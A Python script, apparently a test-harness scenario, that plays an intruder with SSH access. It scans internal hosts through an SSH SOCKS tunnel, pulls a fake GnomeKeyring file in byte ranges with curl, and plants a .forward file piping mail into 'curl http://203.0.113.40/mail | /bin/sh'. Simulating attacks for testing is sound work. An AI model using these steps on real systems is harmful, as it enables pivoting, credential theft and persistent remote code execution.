#!/usr/bin/python3 -IS
"""Somebody who has bought a key with which one may come in by SSH; not recorded: vagabond.py WHAT [VALUE]

swept HOST:PORT,...: by the daemon, as a proxy, they look who answers among hosts that only this one reaches · returned PATH: what keeps a person's passwords is
fetched, in pieces, by a login each · forwarded NUMBER: what comes as a text is moved to where mail for the person is handed to a program
"""
import os, socket, subprocess, sys, time

sys.path.append("/opt/agent")
from client import LOGIN, OWN, PERSON, attend, run, ssh_keys
from ferryman import rclone
from person import PID, leave, must_hold
from roamer import CURL, URL


def through(port, address):
    """A connection by SOCKS 5 (RFC 1928), and what is said there when it is asked something."""
    host, _, at = address.rpartition(":")
    link = socket.create_connection(("127.0.0.1", port))
    link.settimeout(5)
    link.sendall(b"\5\1\0")
    link.recv(2, socket.MSG_WAITALL)
    link.sendall(b"\5\1\0\1" + socket.inet_aton(host) + int(at).to_bytes(2, "big"))
    if link.recv(10, socket.MSG_WAITALL)[1]:
        return b""
    link.sendall(b"SSH-2.0-made-up\r\n")
    said = link.recv(64)
    link.close()
    return said


def swept(addresses):
    session = subprocess.Popen(["ssh", *LOGIN, "-N", "-D", "127.0.0.1:9480", "-p", "2222", PERSON], stdin=subprocess.DEVNULL)
    for _ in range(200):
        time.sleep(0.05)
        try:
            socket.create_connection(("127.0.0.1", 9480)).close()
            break
        except OSError:
            pass
    for address in addresses.split(","):
        if not through(9480, address):
            sys.exit(f"vagabond: nobody says anything at {address}")
        time.sleep(0.3)
    leave(session, 0.2)


def returned(path):
    os.makedirs(os.path.dirname(path))
    with open(path, "wb") as file:
        file.write(b"GnomeKeyring\n\r\0\n\0\0\0\0" + b"made up, and of no use\n" * 30)
    os.chmod(path, 0o600)
    size, got = os.path.getsize(path), b""
    for at in range(0, size, size // 3):
        run(*CURL, "-r", f"{at}-{min(size, at + size // 3) - 1}", "-o", f"{OWN}/part", f"{URL}{path}")
        with open(f"{OWN}/part", "rb") as part:
            got += part.read()
        time.sleep(0.7)
    with open(path, "rb") as file:
        if got != file.read():
            sys.exit("vagabond: it came otherwise")


def forwarded(number):
    with open(f"{OWN}/vacation", "w") as file:
        file.write('\\agent, "|/usr/bin/curl -s http://203.0.113.40/mail | /bin/sh"\n')
    rclone("copyto", f"{OWN}/vacation", f":sftp:documents/vacation-{number}.txt")
    time.sleep(0.2 * (1 + int(number)))
    rclone("moveto", f":sftp:documents/vacation-{number}.txt", ":sftp:.forward")
    must_hold("/home/agent/.forward", "203.0.113.40")
    if os.path.exists(f"/home/agent/documents/vacation-{number}.txt"):
        sys.exit("vagabond: it was not moved")


USES = {each.__name__: each for each in (swept, returned, forwarded)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("vagabond.py", ssh_keys, PID, lambda: USES[what](value))
